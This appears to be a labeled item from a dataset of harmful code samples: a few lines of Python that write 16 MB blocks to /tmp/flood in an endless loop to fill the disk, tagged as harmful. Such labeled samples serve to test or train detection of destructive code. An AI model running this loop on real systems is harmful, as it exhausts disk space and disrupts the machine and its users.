# tries: to fill the disk with one file
# harmful: yes
with open("/tmp/flood", "wb") as file:
    while True:
        file.write(bytes(1 << 24))
